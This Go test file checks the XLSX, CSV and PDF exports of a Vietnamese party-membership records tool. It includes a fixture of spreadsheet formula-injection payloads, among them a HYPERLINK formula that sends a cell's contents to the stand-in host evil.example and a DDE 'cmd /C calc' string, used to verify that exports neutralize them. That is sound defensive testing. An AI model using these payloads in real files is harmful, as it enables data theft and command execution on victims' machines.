package export

import (
	"bytes"
	"encoding/csv"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"

	"dais/internal/member"
	"dais/internal/pdfdoc"
)

var day = time.Date(2026, 11, 24, 9, 0, 0, 0, time.UTC)

var (
	family = []string{"Nguyễn", "Trần", "Lê", "Phạm", "Hoàng", "Vũ", "Đặng", "Bùi", "Đỗ", "Ngô"}
	middle = []string{"Thị", "Văn", "Đức", "Minh", "Thu", "Quốc"}
	given  = []string{"Hòa", "Thủy", "Hùng", "Lan", "Dũng", "Hương", "Tuấn", "Ngọc Ánh", "Phương", "Khánh Linh"}
)

// members returns n members; the first is Nguyễn Thị Hòa, every card number has leading zeros.
func members(n int) []member.Member {
	ms := make([]member.Member, n)
	for i := range ms {
		g := "male"
		if i%2 == 0 {
			g = "female"
		}
		st, off := member.StatusOfficial, fmt.Sprintf("%d-%02d-%02d", 1990+i%30, 1+(i+3)%12, 1+(i+7)%28)
		if i%17 == 5 {
			st, off = member.StatusProbationary, ""
		}
		ms[i] = member.Member{
			FullName:      family[i%len(family)] + " " + middle[i%len(middle)] + " " + given[(i/3)%len(given)],
			Gender:        g,
			BirthDate:     fmt.Sprintf("%d-%02d-%02d", 1950+i%50, 1+i%12, 1+i%28),
			CardNumber:    fmt.Sprintf("%08d", 1000+i),
			UnitCode:      "BN.TD.01",
			UnitName:      "Chi bộ Thôn Đông",
			AdmissionDate: fmt.Sprintf("%d-%02d-%02d", 1989+i%30, 1+(i+3)%12, 1+(i+7)%28),
			OfficialDate:  off,
			Ethnicity:     "Kinh",
			Hometown:      "Tiên Du, Bắc Ninh",
			Status:        st,
		}
	}
	ms[0].FullName = "Nguyễn Thị Hòa"
	return ms
}

// hostile is a member whose fields try formula injection.
func hostile() member.Member {
	return member.Member{
		FullName:   `=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")`,
		OtherNames: "\t=1+1",
		Gender:     "female",
		BirthDate:  "1980-01-02",
		CardNumber: "00012345",
		UnitCode:   "BN.TD.01",
		UnitName:   "@SUM(1+1)*cmd|' /C calc'!A0",
		Ethnicity:  "＝1+1",
		Religion:   "\r=2",
		Hometown:   "+84 Bắc Ninh",
		Residence:  "-2+3",
		Positions:  "a;=1+1", // a separator, then a formula: safe only if the field is quoted
		Status:     member.StatusOfficial,
	}
}

func TestNeutralize(t *testing.T) {
	for in, want := range map[string]string{
		"=1+1": "'=1+1", "+1": "'+1", "-1": "'-1", "@x": "'@x", "\tx": "'\tx", "\rx": "'\rx", "＝1": "'＝1",
		"": "", "Nguyễn Thị Hòa": "Nguyễn Thị Hòa", "0001": "0001", "a=1": "a=1", "'=1": "'=1",
	} {
		if got := Neutralize(in); got != want {
			t.Errorf("Neutralize(%q) = %q, want %q", in, got, want)
		}
	}
}

func TestXLSX(t *testing.T) {
	ms := append(members(3), hostile())
	var buf bytes.Buffer
	if err := XLSX(&buf, "Chi bộ Thôn Đông & Tây", ms, "vi"); err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenReader(&buf)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	sheets := f.GetSheetList()
	if len(sheets) != 1 || sheets[0] != "Đảng viên" {
		t.Fatalf("sheets %q", sheets)
	}
	rows, err := f.GetRows("Đảng viên")
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != 5 {
		t.Fatalf("%d rows, want 5", len(rows))
	}
	want := map[string]string{
		"A1": "Họ và tên", "E1": "Số thẻ đảng viên", "A2": "Nguyễn Thị Hòa", "C2": "Nữ", "D2": "01/01/1950",
		"E2": "00001000", "E5": "00012345", "R2": "Chính thức",
		"A5": `'=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")`, "B5": "'\t=1+1", "G5": "'@SUM(1+1)*cmd|' /C calc'!A0",
		"J5": "'＝1+1", "K5": "'\r=2", "L5": "'+84 Bắc Ninh", "M5": "'-2+3", "N5": "a;=1+1",
	}
	for ref, v := range want {
		got, err := f.GetCellValue("Đảng viên", ref)
		if err != nil {
			t.Fatal(err)
		}
		if got != v {
			t.Errorf("%s = %q, want %q", ref, got, v)
		}
	}
	for r := range rows {
		for c := range columns {
			ref, _ := excelize.CoordinatesToCellName(c+1, r+1)
			if fm, err := f.GetCellFormula("Đảng viên", ref); err != nil || fm != "" {
				t.Errorf("%s has formula %q (%v)", ref, fm, err)
			}
			typ, err := f.GetCellType("Đảng viên", ref)
			if err != nil {
				t.Fatal(err)
			}
			if v, _ := f.GetCellValue("Đảng viên", ref); v != "" && typ != excelize.CellTypeInlineString {
				t.Errorf("%s: type %v, want an inline string", ref, typ)
			}
		}
	}
	props, err := f.GetDocProps()
	if err != nil {
		t.Fatal(err)
	}
	if props.Title != "Danh sách đảng viên – Chi bộ Thôn Đông & Tây" || props.Creator != "Dais" {
		t.Errorf("properties %+v", props)
	}
	if hf, err := f.GetHeaderFooter("Đảng viên"); err != nil || !strings.Contains(hf.OddHeader, "Thôn Đông && Tây") {
		t.Errorf("page header %+v (%v)", hf, err)
	}
}

func TestXLSXEnglishAndSheets(t *testing.T) {
	defer func(n int) { maxSheetRows = n }(maxSheetRows)
	maxSheetRows = 4
	var buf bytes.Buffer
	if err := XLSX(&buf, "Cell", members(10), "en"); err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenReader(&buf)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	if got := strings.Join(f.GetSheetList(), "|"); got != "Members|Members (2)|Members (3)" {
		t.Fatalf("sheets %s", got)
	}
	for i, sheet := range f.GetSheetList() {
		rows, _ := f.GetRows(sheet)
		if rows[0][0] != "full_name" || rows[0][4] != "card_number" || rows[0][2] != "gender" {
			t.Errorf("%s header %q", sheet, rows[0])
		}
		if want := []int{5, 5, 3}[i]; len(rows) != want {
			t.Errorf("%s: %d rows, want %d", sheet, len(rows), want)
		}
		if card := rows[1][4]; card != fmt.Sprintf("%08d", 1000+4*i) {
			t.Errorf("%s: first card %q", sheet, card)
		}
	}
}

func TestCSV(t *testing.T) {
	ms := append(members(2), hostile())
	var buf bytes.Buffer
	if err := CSV(&buf, "Chi bộ Thôn Đông", ms, "vi"); err != nil {
		t.Fatal(err)
	}
	b := buf.Bytes()
	if !bytes.HasPrefix(b, []byte{0xEF, 0xBB, 0xBF}) {
		t.Fatalf("no UTF-8 BOM: % x", b[:8])
	}
	if !bytes.HasSuffix(b, []byte("\"\r\n")) {
		t.Error("lines do not end in CRLF")
	}
	// Every field quoted, so a separator inside a value cannot start a cell.
	if first, _, _ := strings.Cut(string(b[3:]), "\r\n"); !strings.HasPrefix(first, `"Họ và tên","Tên gọi khác","Giới tính",`) {
		t.Errorf("header line %q", first)
	}
	if !bytes.Contains(b, []byte(`,"a;=1+1",`)) || !bytes.Contains(b, []byte(`"'=HYPERLINK(""http://evil.example/?""&A1,""Bấm vào đây"")"`)) {
		t.Error("fields not quoted")
	}
	recs, err := csv.NewReader(bytes.NewReader(b[3:])).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(recs) != 4 || recs[0][0] != "Họ và tên" || recs[1][0] != "Nguyễn Thị Hòa" || recs[1][4] != "00001000" || recs[1][3] != "01/01/1950" {
		t.Fatalf("records %q", recs[:2])
	}
	h := recs[3]
	for i, want := range map[int]string{0: `'=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")`, 1: "'\t=1+1", 6: "'@SUM(1+1)*cmd|' /C calc'!A0",
		9: "'＝1+1", 10: "'\r=2", 11: "'+84 Bắc Ninh", 12: "'-2+3", 13: "a;=1+1"} {
		if h[i] != want {
			t.Errorf("field %d = %q, want %q", i, h[i], want)
		}
	}
	for _, r := range recs {
		for i, v := range r {
			if v != "" && strings.ContainsRune("=+-@\t\r", rune(v[0])) {
				t.Errorf("field %d %q starts with a formula character", i, v)
			}
		}
	}
}

// pdfText returns pdftotext's reading of pdf (layout mode).
func pdfText(t *testing.T, pdf []byte, name string) string {
	t.Helper()
	bin, err := exec.LookPath("pdftotext")
	if err != nil {
		t.Skip("pdftotext not installed (Debian poppler-utils; scripts/test installs it)")
	}
	p := filepath.Join(t.TempDir(), name+".pdf")
	if err := os.WriteFile(p, pdf, 0o600); err != nil {
		t.Fatal(err)
	}
	if dir := os.Getenv("DAIS_PDF_PNG_DIR"); dir != "" { // for a person to look at the layout
		os.MkdirAll(dir, 0o755)
		if out, err := exec.Command("pdftoppm", "-png", "-r", "100", "-f", "1", "-l", "2", p, filepath.Join(dir, name)).CombinedOutput(); err != nil {
			t.Fatalf("pdftoppm: %v: %s", err, out)
		}
	}
	out, err := exec.Command(bin, "-layout", "-enc", "UTF-8", p, "-").Output()
	if err != nil {
		t.Fatalf("pdftotext: %v", err)
	}
	return string(out)
}

var issuer = Issuer{
	Superior: "Đảng bộ xã Tiên Du", Unit: "Chi bộ Thôn Đông", Place: "Bắc Ninh", Date: day, DocNo: "05-DS/CB",
	Signer: pdfdoc.Signature{Name: "Nguyễn Thị Hòa"}, Created: day,
}

func TestListPDF(t *testing.T) {
	ms := members(500)
	var buf bytes.Buffer
	if err := ListPDF(&buf, issuer, ms, "vi"); err != nil {
		t.Fatal(err)
	}
	text := pdfText(t, buf.Bytes(), "list")
	for _, want := range []string{
		"ĐẢNG CỘNG SẢN VIỆT NAM", "ĐẢNG BỘ XÃ TIÊN DU", "CHI BỘ THÔN ĐÔNG", "Số 05-DS/CB", "Bắc Ninh, ngày 24 tháng 11 năm 2026",
		"DANH SÁCH ĐẢNG VIÊN", "(Tính đến ngày 24/11/2026)", "Nguyễn Thị Hòa", "Số thẻ", "Họ và tên", "Ngày sinh", "Giới",
		"Tổng số: 500 đảng viên", "T/M CHI ỦY", "BÍ THƯ", "(Ký, ghi rõ họ tên)", "Trang 1/",
	} {
		if !strings.Contains(text, want) {
			t.Errorf("missing %q", want)
		}
	}
	pages := strings.Split(text, "\f")
	pages = pages[:len(pages)-1] // pdftotext ends every page with a form feed
	if len(pages) < 10 {
		t.Fatalf("%d pages for 500 members", len(pages))
	}
	for i, p := range pages {
		if want := fmt.Sprintf("Trang %d/%d", i+1, len(pages)); !strings.Contains(p, want) {
			t.Errorf("page %d: no %q", i+1, want)
		}
		if i < len(pages)-1 && !(strings.Contains(p, "STT") && strings.Contains(p, "Họ và tên")) {
			t.Errorf("page %d: no table header", i+1)
		}
	}
	for i := range ms { // every row once, dates and cards whole (no wrapped cells)
		m := &ms[i]
		if n := strings.Count(text, m.CardNumber); n != 1 {
			t.Fatalf("card %s appears %d times", m.CardNumber, n)
		}
		if !strings.Contains(text, date(m.BirthDate)) || !strings.Contains(text, date(m.AdmissionDate)) {
			t.Fatalf("row %d: a date is not whole", i+1)
		}
	}
}

func TestListPDFEnglish(t *testing.T) {
	var buf bytes.Buffer
	ms := members(3)
	ms[2].CardNumber = "012345678901" // the longest card number stays on one line
	if err := ListPDF(&buf, issuer, ms, "en"); err != nil {
		t.Fatal(err)
	}
	text := pdfText(t, buf.Bytes(), "list-en")
	for _, want := range []string{"ĐẢNG CỘNG SẢN VIỆT NAM", "LIST OF PARTY MEMBERS", "Card no.", "Total: 3 members", "Page 1/1", "Female", "Gender", "012345678901"} {
		if !strings.Contains(text, want) {
			t.Errorf("missing %q in\n%s", want, text)
		}
	}
}

func letter() Letter {
	return Letter{
		Number: "15-GGT/ĐU", FromSuperior: "Huyện ủy Tiên Du", From: "Đảng ủy xã Tiên Du",
		To: "Chi bộ Khu phố 3, Đảng bộ phường Đông Ngàn", Place: "Bắc Ninh", Date: day,
		MemberName: "Nguyễn Thị Hòa", BirthDate: time.Date(1985, 3, 4, 0, 0, 0, 0, time.UTC), CardNumber: "00012345",
		AdmissionDate: time.Date(2010, 5, 19, 0, 0, 0, 0, time.UTC), OfficialDate: time.Date(2011, 5, 19, 0, 0, 0, 0, time.UTC),
		Kind: TransferOfficial, Reason: "Chuyển nơi cư trú", ValidUntil: day.AddDate(0, 0, 30),
		Signer:  pdfdoc.Signature{Authority: "T/M Đảng ủy", Title: "Phó Bí thư", Name: "Trần Văn Thuỷ", Recipients: []string{"Như kính gửi", "Lưu VP"}},
		Created: day,
	}
}

func TestTransferLetterPDF(t *testing.T) {
	var buf bytes.Buffer
	if err := TransferLetterPDF(&buf, letter()); err != nil {
		t.Fatal(err)
	}
	text := pdfText(t, buf.Bytes(), "letter")
	for _, want := range []string{
		"ĐẢNG CỘNG SẢN VIỆT NAM", "HUYỆN ỦY TIÊN DU", "ĐẢNG ỦY XÃ TIÊN DU", "Số 15-GGT/ĐU", "Bắc Ninh, ngày 24 tháng 11 năm 2026",
		"GIẤY GIỚI THIỆU SINH HOẠT ĐẢNG", "(Chuyển sinh hoạt đảng chính thức)", "Kính gửi: Chi bộ Khu phố 3",
		"giới thiệu đồng chí: Nguyễn Thị Hòa", "Sinh ngày: 04/03/1985", "Số thẻ đảng viên: 00012345",
		"Vào Đảng ngày: 19/05/2010; chính thức ngày: 19/05/2011", "Là đảng viên: chính thức", "Lý do: Chuyển nơi cư trú",
		"có giá trị đến hết ngày 24/12/2026", "T/M ĐẢNG ỦY", "PHÓ BÍ THƯ", "Trần Văn Thuỷ", "Trang 1/1",
	} {
		if !strings.Contains(text, want) {
			t.Errorf("missing %q in\n%s", want, text)
		}
	}

	l := letter()
	l.Kind, l.OfficialDate = TransferTemporary, time.Time{}
	buf.Reset()
	if err := TransferLetterPDF(&buf, l); err != nil {
		t.Fatal(err)
	}
	text = pdfText(t, buf.Bytes(), "letter-temporary")
	for _, want := range []string{"(Chuyển sinh hoạt đảng tạm thời)", "Là đảng viên: dự bị", "chính thức ngày: (chưa chính thức)"} {
		if !strings.Contains(text, want) {
			t.Errorf("missing %q", want)
		}
	}
}

func TestTransferLetterInvalid(t *testing.T) {
	for name, edit := range map[string]func(*Letter){
		"no member":      func(l *Letter) { l.MemberName = " " },
		"bad kind":       func(l *Letter) { l.Kind = "forever" },
		"expired":        func(l *Letter) { l.ValidUntil = l.Date.AddDate(0, 0, -1) },
		"no valid until": func(l *Letter) { l.ValidUntil = time.Time{} },
	} {
		t.Run(name, func(t *testing.T) {
			l := letter()
			edit(&l)
			var buf bytes.Buffer
			if err := TransferLetterPDF(&buf, l); err == nil || buf.Len() != 0 {
				t.Fatalf("err %v, %d bytes", err, buf.Len())
			}
		})
	}
}

func FuzzNeutralize(f *testing.F) {
	for _, s := range []string{"=1+1", "+1", "-1", "@x", "\tx", "\rx", "＝1", "", "Hòa", "'=1"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		got := Neutralize(s)
		if got != s && got != "'"+s {
			t.Fatalf("Neutralize(%q) = %q: neither the value nor the value quoted", s, got)
		}
		if r := []rune(got); len(r) > 0 && strings.ContainsRune("=+-@\t\r＝＋－＠", r[0]) {
			t.Fatalf("Neutralize(%q) = %q starts with a formula character", s, got)
		}
		if Neutralize(got) != got {
			t.Fatalf("Neutralize is not idempotent on %q", s)
		}
	})
}

func TestEmptyList(t *testing.T) {
	var buf bytes.Buffer
	if err := ListPDF(&buf, Issuer{Unit: "Chi bộ Thôn Tây", Created: day}, nil, "vi"); err != nil {
		t.Fatal(err)
	}
	if text := pdfText(t, buf.Bytes(), "list-empty"); !strings.Contains(text, "Tổng số: 0 đảng viên") {
		t.Errorf("no total in\n%s", text)
	}
	for _, write := range []func() error{
		func() error { return XLSX(&buf, "", nil, "vi") },
		func() error { return CSV(&buf, "", nil, "vi") },
	} {
		buf.Reset()
		if err := write(); err != nil || buf.Len() == 0 {
			t.Errorf("err %v, %d bytes", err, buf.Len())
		}
	}
}
